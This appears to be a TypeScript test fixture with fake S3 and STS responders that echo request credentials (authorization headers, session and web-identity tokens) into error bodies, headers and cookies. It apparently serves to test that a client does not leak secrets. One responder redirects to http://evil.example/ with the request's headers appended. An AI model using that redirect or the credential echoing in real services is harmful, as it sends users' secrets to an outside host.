// Responses for a fake S3 and a fake STS that echo the received request in the status line, headers and body.
import type { IncomingMessage, ServerResponse } from 'node:http';

type S3Answer = (request: IncomingMessage, response: ServerResponse) => void;

const all = ({ headers, url = '' }: IncomingMessage): string =>
  `${url} ${JSON.stringify(headers)}`.replace(/[<>&]/g, ' ');

/** Returns AWS's error document for an invalid signature, with additional fields that echo the request. */
function errorDocument(code: string, request: IncomingMessage): string {
  const { authorization = '', 'x-amz-security-token': token } = request.headers;
  return [
    `<Error><Code>${code}</Code><Message>${all(request)}</Message><AWSAccessKeyId>${authorization}</AWSAccessKeyId>`,
    `<StringToSign>AWS4-HMAC-SHA256 ${authorization}</StringToSign><SignatureProvided>${authorization}</SignatureProvided>`,
    `<CanonicalRequest>${all(request)}</CanonicalRequest><Token-0>${String(token)}</Token-0>`,
    `<Condition>If-Match</Condition><Region>eu-west-1</Region><HostId>x</HostId></Error>`,
  ].join('');
}

const refused =
  (status: number, code: string): S3Answer =>
  (request, response) => {
    response.writeHead(status, {
      location: `http://evil.example/?${all(request).replace(/[^\x21-\x7e]/g, '')}`,
    });
    response.end(errorDocument(code, request));
  };

export const TELLING_S3: Readonly<Record<string, S3Answer>> = {
  'an invalid signature': refused(403, 'SignatureDoesNotMatch'),
  'a denial': refused(403, 'AccessDenied'),
  'an expired token': refused(400, 'ExpiredToken'),
  'a bad request': refused(400, 'InvalidArgument'),
  'a failure': refused(500, 'InternalError'),
  'a redirect': refused(307, 'TemporaryRedirect'),
  'a permanent redirect': refused(301, 'PermanentRedirect'),
  'the session token as the error code': (request, response) => {
    const { 'x-amz-security-token': token } = request.headers;
    response
      .writeHead(400)
      .end(
        `<Error><Code>${String(token)}</Code><Size>${String(request.headers.authorization)}</Size></Error>`,
      );
  },
  'a status that S3 never sends': (request, response) => {
    response.writeHead(302, { location: '/' }).end(all(request));
  },
  'a response that is not HTTP': (request) => {
    request.socket.end(`SSH-2.0 ${all(request)}\r\n\r\n`);
  },
  'truncated headers': (request) => {
    request.socket.end(`HTTP/1.1 200 OK\r\nx-amz-meta-a: ${all(request)}`);
  },
  'a truncated body': (request, response) => {
    response.writeHead(200, { 'content-length': '100' }).write('x');
    setTimeout(() => request.socket.destroy(), 20);
  },
  'the session token as a header': (request, response) => {
    const { 'x-amz-security-token': token = '', authorization = '' } = request.headers;
    response.writeHead(200, {
      'x-amz-security-token': token,
      authorization,
      'set-cookie': String(token),
      server: authorization,
    });
    response.end('ok');
  },
};

type StsAnswer = (form: URLSearchParams) => { readonly status: number; readonly body: string };

const error =
  (status: number, code: string): StsAnswer =>
  (form) => ({
    status,
    body: `<ErrorResponse xmlns="https://sts.amazonaws.com/doc/2011-06-15/"><Error><Type>Sender</Type><Code>${code}</Code><Message>${form.toString().replaceAll('&', ' ')} ${form.get('WebIdentityToken') ?? ''}</Message></Error><RequestId>r</RequestId></ErrorResponse>`,
  });

export const TELLING_STS: Readonly<Record<string, StsAnswer>> = {
  'a rejected token': error(400, 'InvalidIdentityToken'),
  'an expired token': error(400, 'ExpiredTokenException'),
  'a denial': error(403, 'AccessDenied'),
  'a bad parameter': error(400, 'ValidationError'),
  'an unknown error code': error(400, 'Whatever'),
  'a failure': error(500, 'InternalFailure'),
  'the token as the error code': (form) =>
    error(400, form.get('WebIdentityToken') ?? form.get('ExternalId') ?? 'none')(form),
  'a response that is not XML': (form) => ({ status: 200, body: `{"token": "${form.toString()}"}` }),
  'truncated XML': (form) => ({
    status: 200,
    body: `<AssumeRoleWithWebIdentityResponse><A>${form.toString()}`,
  }),
  'an empty response': () => ({ status: 200, body: '' }),
};
